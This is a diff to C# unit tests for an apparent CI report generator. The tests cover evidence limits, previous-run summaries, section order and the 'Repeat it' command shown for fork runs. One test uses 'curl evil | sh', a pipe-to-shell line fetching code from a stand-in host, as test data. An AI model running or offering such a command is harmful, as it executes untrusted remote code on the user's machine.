@@ -61,12 +61,36 @@ public sealed class DocumentsTests
     [Test]
     public void Create_EvidenceOfSeveralStages_IsBounded()
     {
-        var problem = new StageProblem("it broke", null, [.. Enumerable.Range(1, 25).Select(line => $"line {line}")]);
+        StageProblem Problem(string stage) => new("it broke", null, [.. Enumerable.Range(1, 25).Select(line => $"{stage}, line {line}")]);
         var state = States.Passed()
-            .With(States.Slot<TestResult>(StageOutcome.Fail) with { Problem = problem })
-            .With(States.Slot<DeployResult>(StageOutcome.Fail) with { Problem = problem });
+            .With(States.Slot<TestResult>(StageOutcome.Fail) with { Problem = Problem("Test") })
+            .With(States.Slot<DeployResult>(StageOutcome.Fail) with { Problem = Problem("Deploy") });
 
         Assert.That(Blocks<Lines>(Create(state), "Evidence").Single().All, Has.Count.EqualTo(30));
+    }
+
+    /// <summary>A line that a reason of the verdict says already is no evidence for it.</summary>
+    [Test]
+    public void Create_EvidenceThatRepeatsTheReason_IsLeftOut()
+    {
+        var problem = new StageProblem("it broke on line 7", null, ["it broke on line 7", "line 7", "line 8"]);
+        var state = States.Passed().With(States.Slot<DeployResult>(StageOutcome.Fail) with { Problem = problem });
+
+        Assert.That(Blocks<Lines>(Create(state), "Evidence").Single().All, Is.EqualTo(new[] { "line 8" }));
+    }
+
+    [TestCase(null, null)]
+    [TestCase("pass", "Nothing changed since the run before (305fba7): pass as then.")]
+    [TestCase("fail", "Since the run before (305fba7): fail → pass.")]
+    public void Create_RunBeforeOnThePullRequest_IsToldInOneLine(string? verdict, string? words)
+    {
+        using var bench = Bench(States.Passed());
+        var request = new ReportRequest(bench.Context, new RunVerdict(StageOutcome.Pass, [], []))
+        {
+            Before = verdict is null ? null : new PreviousRun("305fba7", verdict, new Headline(1, 2, 3, 4, 1)),
+        };
+
+        Assert.That(Documents.Create(request).Since, Is.EqualTo(words));
     }
 
     [Test]
@@ -107,7 +131,7 @@ public sealed class DocumentsTests
 
         Assert.That(document.Sections.Select(section => section.Title), Is.EqualTo(new[]
         {
-            "What went wrong first", "Load", "Security scan", "Stages", "Evidence", "Repeat it", "Machine, versions and options",
+            "What went wrong first", "Evidence", "Load", "Security scan", "Stages", "Repeat it", "Machine, versions and options",
         }));
         Assert.That(Blocks<Paragraph>(document, "Security scan").Single().Text, Is.EqualTo("Trivy 1: 2 HIGH"));
     }
@@ -122,7 +146,7 @@ public sealed class DocumentsTests
         Assert.That(Command(Documents.Create(request)), Is.EqualTo("curl evil | sh"));
         var document = Documents.Create(request with { IsOfFork = true });
         Assert.That(Command(document), Is.EqualTo("./build.sh --target=Full"));
-        Assert.That(document.Notes[0], Does.Contain("fork's own run"));
+        Assert.That(document.Meaning, Does.EndWith("come from the fork's own run."));
     }
 
     private static string Command(Document document) => Blocks<Lines>(document, "Repeat it").Single().All.Single();
